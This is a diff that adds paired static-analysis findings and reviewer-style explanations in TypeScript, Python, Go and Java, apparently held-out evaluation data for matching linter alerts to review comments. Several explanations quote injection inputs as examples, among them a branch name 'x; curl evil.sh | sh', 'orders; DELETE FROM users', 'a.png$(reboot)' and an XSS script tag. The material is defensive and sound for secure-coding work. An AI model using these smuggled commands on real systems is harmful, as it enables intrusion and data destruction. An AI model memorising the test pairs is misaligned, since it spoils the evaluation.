@@ -539,3 +539,431 @@ const different: readonly LinterPair[] = [
 ];
 
 export const heldOutPairs: readonly LinterPair[] = [...same, ...different];
+
+/** The same, with explanations as long as AI reviewers write them. */
+export const longPairs: readonly LinterPair[] = [
+  ...pairs('typescript', true, [
+    [
+      [
+        'semgrep',
+        'javascript.express.security.audit.xss.direct-response-write.direct-response-write',
+        "Detected directly writing to a Response object from user-defined input. This bypasses any HTML escaping and may expose your application to a Cross-Site-scripting (XSS) vulnerability. Instead, use 'resp.render()' to render safely escaped HTML.",
+      ],
+      [
+        'Reflected input in search page',
+        '`req.query.q` is sent back with `res.send()` without any encoding. If an attacker crafts a link that contains `<img onerror=...>`, the browser of whoever opens it will execute it with the session of our site. Encode the value or render it through the template engine.',
+      ],
+    ],
+    [
+      ['codeql', 'js/sql-injection', 'This query string depends on a [user-provided value](1).'],
+      [
+        'User-controlled sort column is interpolated into the ORDER BY',
+        'The `sort` query parameter is placed into the template literal unchanged. Since it is not a value it cannot be bound, so it has to be checked against an allow list of columns; otherwise arbitrary SQL can be appended.',
+      ],
+    ],
+    [
+      [
+        'semgrep',
+        'javascript.lang.security.detect-child-process.detect-child-process',
+        'Detected calls to child_process from a function argument `branch`. This could lead to a command injection if the input is user controllable. Try to avoid calls to child_process, and if it is needed ensure user input is correctly sanitized or sandboxed.',
+      ],
+      [
+        '`git checkout` is run through a shell',
+        'Because `execSync` receives one string, a branch called `x; curl evil.sh | sh` would be executed on the build host. Use `execFileSync("git", ["checkout", branch])`.',
+      ],
+    ],
+    [
+      [
+        'typescript-eslint',
+        '@typescript-eslint/no-floating-promises',
+        'Promises must be awaited, end with a call to .catch, end with a call to .then with a rejection handler or be explicitly marked as ignored with the `void` operator.',
+      ],
+      [
+        'audit.record() is fire-and-forget',
+        'Nothing waits for `audit.record(event)`. When the database is down the rejection surfaces as an unhandledRejection and takes the process with it, and entries are lost on shutdown.',
+      ],
+    ],
+    [
+      [
+        'codeql',
+        'js/server-side-unvalidated-url-redirection',
+        'Untrusted URL redirection depends on a [user-provided value](1).',
+      ],
+      [
+        '`returnTo` is not restricted to our own host',
+        'After signing in the user is forwarded to whatever `returnTo` holds. A phishing mail can use our domain in its link and still land people on a look-alike page. Only accept relative paths.',
+      ],
+    ],
+    [
+      [
+        'typescript-eslint',
+        '@typescript-eslint/no-explicit-any',
+        'Unexpected any. Specify a different type.',
+      ],
+      [
+        '`payload: any` loses the contract of the event',
+        'Declaring the parameter this way means that the compiler accepts any property access on it, so renaming a field will not be noticed here. There is already an `OrderEvent` interface that could be used.',
+      ],
+    ],
+    [
+      [
+        'codeql',
+        'js/polynomial-redos',
+        "This regular expression that depends on a user-provided value may run slow on strings starting with '\t' and with many repetitions of '\t'.",
+      ],
+      [
+        'Whitespace trimming pattern is quadratic',
+        'With `/\\s+$/` a header of 100,000 tabs followed by a letter keeps one core busy for several seconds, which is enough to take the service down. `trimEnd()` does the same in linear time.',
+      ],
+    ],
+    [
+      ['eslint', 'no-empty', 'Empty block statement.'],
+      [
+        'Failures of the cache write are invisible',
+        'The catch clause contains no code and no comment. If Redis rejects the write because it is out of memory we will never find out. At least log it at warn level.',
+      ],
+    ],
+  ]),
+  ...pairs('python', true, [
+    [
+      ['ruff', 'B006', 'Do not use mutable data structures for argument defaults'],
+      [
+        'Options leak from one report into the next',
+        '`def render(rows, options={})` evaluates the dictionary only once, and `options["title"] = ...` below changes it, so the second report starts with the title of the first one. Use None and create the dictionary inside.',
+      ],
+    ],
+    [
+      [
+        'semgrep',
+        'python.lang.security.deserialization.pickle.avoid-pickle',
+        'Avoid using `pickle`, which is known to lead to code execution vulnerabilities. When unpickling, the serialized data could be manipulated to run arbitrary code.',
+      ],
+      [
+        'Session data from Redis is loaded with pickle',
+        'Anyone who can write to the shared Redis instance can put an object with a `__reduce__` method there and have it executed in the web worker. JSON is sufficient for what is stored.',
+      ],
+    ],
+    [
+      ['ruff', 'S324', 'Probable use of insecure hash functions in `hashlib`: `md5`'],
+      [
+        'Reset tokens are derived with MD5',
+        '`hashlib.md5(email + date)` can be computed by anyone who knows the address, and MD5 has been considered broken for years. Use `secrets.token_urlsafe` or at least HMAC-SHA256 with a server key.',
+      ],
+    ],
+    [
+      ['ruff', 'S608', 'Possible SQL injection vector through string-based query construction'],
+      [
+        '`table` ends up in the statement through `.format()`',
+        'While values are passed as parameters, the table name is taken from the URL and formatted into the text. `orders; DELETE FROM users` would be accepted by the driver. Look it up in a dictionary of known tables.',
+      ],
+    ],
+    [
+      ['codeql', 'py/path-injection', 'This path depends on a [user-provided value](1).'],
+      [
+        'Attachment name is used as is',
+        '`os.path.join(UPLOADS, name)` drops the first part when `name` is absolute, so `/etc/shadow` is returned to the client. Resolve the path and check that it is still below `UPLOADS`.',
+      ],
+    ],
+    [
+      ['ruff', 'S602', '`subprocess` call with `shell=True` identified, security issue'],
+      [
+        'Unquoted file name in the convert call',
+        'The upload is passed to ImageMagick via a formatted string, hence a file called `a.png$(reboot)` would be interpreted by sh. Pass a list of arguments instead.',
+      ],
+    ],
+    [
+      [
+        'codeql',
+        'py/stack-trace-exposure',
+        '[Stack trace information](1) flows to this location and may be exposed to an external user.',
+      ],
+      [
+        'Internal error details are returned to the caller',
+        'The handler answers with `traceback.format_exc()`, which tells attackers about paths, library versions and SQL. Log it and answer with a generic message.',
+      ],
+    ],
+    [
+      ['ruff', 'F841', 'Local variable `deadline` is assigned to but never used'],
+      [
+        'The computed deadline is not applied',
+        '`deadline` is calculated from the SLA in the line above, yet the request further down is sent with the default. It looks as if passing it on was forgotten.',
+      ],
+    ],
+  ]),
+  ...pairs('go', true, [
+    [
+      ['golangci-lint', 'G202', 'SQL string concatenation'],
+      [
+        'Filter value goes straight into the WHERE clause',
+        'Concatenating `status` from the request lets a caller close the quote and add a UNION. `db.Query(q, status)` with `$1` avoids it.',
+      ],
+    ],
+    [
+      ['golangci-lint', 'errcheck', 'Error return value of `tx.Rollback` is not checked'],
+      [
+        'tx.Rollback() can fail silently',
+        'If the connection was dropped the deferred rollback returns an error that nobody sees, which made the last incident hard to analyse. Log anything other than sql.ErrTxDone.',
+      ],
+    ],
+    [
+      ['golangci-lint', 'bodyclose', 'response body must be closed'],
+      [
+        'HTTP connections are not reused',
+        'When the status is not 200 the function returns before `defer resp.Body.Close()` is reached, and the transport has to open a new connection for each failure until file descriptors are exhausted.',
+      ],
+    ],
+    [
+      [
+        'golangci-lint',
+        'G404',
+        'Use of weak random number generator (math/rand or math/rand/v2 instead of crypto/rand)',
+      ],
+      [
+        'One-time codes come from math/rand',
+        'The generator is not cryptographically secure, and with two codes in hand the sequence can be reconstructed. crypto/rand should be used for anything that authenticates a user.',
+      ],
+    ],
+  ]),
+  ...pairs('java', true, [
+    [
+      [
+        'codeql',
+        'java/unsafe-deserialization',
+        'Unsafe deserialization depends on a [user-provided value](1).',
+      ],
+      [
+        'Cookie is turned back into an object without a filter',
+        '`new ObjectInputStream(...)` on the cookie bytes instantiates any class on the class path, and commons-collections is one of them, which is a known way to remote code execution.',
+      ],
+    ],
+    [
+      ['codeql', 'java/xss', 'Cross-site scripting vulnerability due to a [user-provided value](1).'],
+      [
+        'The display name is written into the HTML response',
+        'People can choose a name such as `<script>fetch(...)</script>`, which `out.println` then sends to everyone who looks at their profile. Use the encoder from OWASP.',
+      ],
+    ],
+  ]),
+  ...pairs('typescript', false, [
+    [
+      ['codeql', 'js/sql-injection', 'This query string depends on a [user-provided value](1).'],
+      [
+        'Connection is not released when the query fails',
+        '`client.release()` is only called after a successful `client.query(sql)`. Each failing statement leaves one client checked out, and after ten of them the pool is empty and all requests hang. Move the call to a finally block.',
+      ],
+    ],
+    [
+      ['codeql', 'js/sql-injection', 'This query string depends on a [user-provided value](1).'],
+      [
+        'SELECT * returns the password hash',
+        'The query loads all columns of the users table and the result is sent to the client as JSON, so hashes and e-mail addresses of other people are disclosed. List the columns that the page needs.',
+      ],
+    ],
+    [
+      [
+        'semgrep',
+        'javascript.lang.security.detect-child-process.detect-child-process',
+        'Detected calls to child_process from a function argument `branch`. This could lead to a command injection if the input is user controllable.',
+      ],
+      [
+        'Output of git is limited to 1 MB',
+        '`execSync` has a default `maxBuffer`. For large repositories the diff exceeds it and the call throws ENOBUFS, which is reported as "git is not installed".',
+      ],
+    ],
+    [
+      [
+        'typescript-eslint',
+        '@typescript-eslint/no-floating-promises',
+        'Promises must be awaited, end with a call to .catch, end with a call to .then with a rejection handler or be explicitly marked as ignored with the `void` operator.',
+      ],
+      [
+        'The same mail is sent twice',
+        '`sendMail(order)` is called here and again by the queue consumer, since the event is published as well. Customers get two confirmations.',
+      ],
+    ],
+    [
+      [
+        'typescript-eslint',
+        '@typescript-eslint/no-explicit-any',
+        'Unexpected any. Specify a different type.',
+      ],
+      [
+        'Response is cached under the wrong key',
+        'The key only has the path, and the response depends on the language of the user as well. The first visitor decides which language everyone sees.',
+      ],
+    ],
+    [
+      [
+        'codeql',
+        'js/server-side-unvalidated-url-redirection',
+        'Untrusted URL redirection depends on a [user-provided value](1).',
+      ],
+      [
+        '302 is cached by the CDN',
+        "The redirect has no Cache-Control header, hence the edge may serve one user's target to others. Send `no-store` along with it.",
+      ],
+    ],
+    [
+      ['codeql', 'js/xss', 'Cross-site scripting vulnerability due to a user-provided value.'],
+      [
+        'Scroll position is lost on every update',
+        'Assigning to `innerHTML` replaces all child nodes, so the list jumps to its beginning whenever a message arrives. Append the new node instead.',
+      ],
+    ],
+    [
+      ['eslint', 'no-unused-vars', "'err' is defined but never used."],
+      [
+        'Wrong status code for missing files',
+        'The handler answers 500 when the file does not exist. `err.code === "ENOENT"` should become a 404.',
+      ],
+    ],
+    [
+      ['eslint', 'eqeqeq', "Expected '===' and instead saw '=='."],
+      [
+        'Admin check compares the wrong id',
+        'The condition looks at `session.orgId` where it should look at `session.userId`, so every member of organisation 1 is treated as the administrator.',
+      ],
+    ],
+  ]),
+  ...pairs('python', false, [
+    [
+      ['ruff', 'S602', '`subprocess` call with `shell=True` identified, security issue'],
+      [
+        'The subprocess may never end',
+        'ffmpeg waits for input on stdin when the target file exists. Without `-y` and without `timeout=` the worker blocks until it is killed by the supervisor.',
+      ],
+    ],
+    [
+      ['ruff', 'S324', 'Probable use of insecure hash functions in `hashlib`: `md5`'],
+      [
+        'Hash is computed before the file is complete',
+        'The stream has not been flushed when the digest is taken, so the value in the manifest does not match the uploaded file.',
+      ],
+    ],
+    [
+      [
+        'ruff',
+        'S301',
+        '`pickle` and modules that wrap it can be unsafe when used to deserialize untrusted data, possible security issue',
+      ],
+      [
+        'Cached models break after an upgrade',
+        'The pickled class moved to another module in 2.0, so loading entries written by the previous release fails with AttributeError. Add a version to the key.',
+      ],
+    ],
+    [
+      ['ruff', 'B006', 'Do not use mutable data structures for argument defaults'],
+      [
+        '`rows` may be None',
+        'Callers in reports.py pass None for an empty result, and `for row in rows` then raises TypeError.',
+      ],
+    ],
+    [
+      ['codeql', 'py/path-injection', 'This path depends on a [user-provided value](1).'],
+      [
+        'Large files are loaded completely',
+        '`open(path).read()` holds the entire video in memory for each download. Stream it in chunks.',
+      ],
+    ],
+    [
+      [
+        'semgrep',
+        'python.lang.security.audit.eval-detected.eval-detected',
+        'Detected the use of eval(). eval() can be dangerous if used to evaluate dynamic content.',
+      ],
+      [
+        'Rounding differs from the invoice',
+        'The price formula yields a float here and Decimal in billing.py, therefore totals differ by a cent in some cases.',
+      ],
+    ],
+    [
+      ['ruff', 'F841', 'Local variable `deadline` is assigned to but never used'],
+      [
+        '`started` is unused',
+        'The start time is stored in `started` and nothing reads it. Remove it or log the duration.',
+      ],
+    ],
+    [
+      ['ruff', 'S608', 'Possible SQL injection vector through string-based query construction'],
+      [
+        'Query ignores the tenant',
+        'The statement selects invoices by number only. Numbers are unique per tenant, so one customer can see the invoice of another one.',
+      ],
+    ],
+    [
+      [
+        'codeql',
+        'py/clear-text-logging-sensitive-data',
+        'This expression logs [sensitive data (password)](1) as clear text.',
+      ],
+      [
+        'Failed logins are not counted',
+        'There is a log line for a wrong password and no counter, so an attacker can try as many passwords as they like. Lock the account after ten attempts.',
+      ],
+    ],
+  ]),
+  ...pairs('go', false, [
+    [
+      ['golangci-lint', 'errcheck', 'Error return value of `w.Write` is not checked'],
+      [
+        'Content-Type is set too late',
+        'Headers must be set before the first call of `w.Write`; here the JSON is served as text/plain.',
+      ],
+    ],
+    [
+      ['golangci-lint', 'errcheck', 'Error return value of `src.Close` is not checked'],
+      [
+        'dst.Close() error is dropped',
+        'For the file that was written the final flush happens in `dst.Close()`, so a full disk goes unnoticed.',
+      ],
+    ],
+    [
+      ['golangci-lint', 'G304', 'Potential file inclusion via variable'],
+      [
+        'Config is read on every request',
+        '`os.ReadFile(path)` runs inside the handler. Load the file at start and keep the parsed value.',
+      ],
+    ],
+    [
+      ['golangci-lint', 'bodyclose', 'response body must be closed'],
+      [
+        'Retries reuse a consumed request body',
+        'After the first attempt `req.Body` has been read to its end, so the second attempt sends an empty payload. Create the reader inside the loop.',
+      ],
+    ],
+    [
+      ['golangci-lint', 'G204', 'Subprocess launched with a potential tainted input or cmd arguments'],
+      [
+        'Environment of the server is inherited',
+        '`cmd.Env` is not set, so the hook script sees DATABASE_URL and all other secrets of the service.',
+      ],
+    ],
+  ]),
+  ...pairs('java', false, [
+    [
+      ['codeql', 'java/sql-injection', 'This query depends on a [user-provided value](1).'],
+      [
+        'Search is case-sensitive',
+        '`LIKE` on this column distinguishes upper and lower case, so "meier" does not find "Meier". Use ILIKE or a normalised column.',
+      ],
+    ],
+    [
+      [
+        'codeql',
+        'java/weak-cryptographic-algorithm',
+        'Cryptographic algorithm [DES](1) is weak and should not be used.',
+      ],
+      [
+        'The initialisation vector is constant',
+        'All records are encrypted with sixteen zero bytes as IV, so equal plaintexts give equal ciphertexts. Generate a random IV for each record.',
+      ],
+    ],
+    [
+      ['codeql', 'java/path-injection', 'This path depends on a [user-provided value](1).'],
+      [
+        'File name collisions',
+        'Two people who upload `scan.pdf` at the same time write to the same file, and one of them loses the document. Add a UUID to the name.',
+      ],
+    ],
+  ]),
+];
